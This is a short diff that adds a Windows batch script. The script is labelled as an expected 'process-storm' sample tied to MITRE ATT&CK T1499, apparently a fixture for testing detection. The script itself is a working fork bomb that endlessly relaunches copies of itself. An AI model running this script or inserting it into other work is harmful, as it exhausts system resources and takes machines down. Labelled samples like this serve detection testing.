@@ -1,0 +1,4 @@
+@rem expect: process-storm | source: MITRE ATT&CK T1499
+:again
+start "" "%~f0"
+goto again
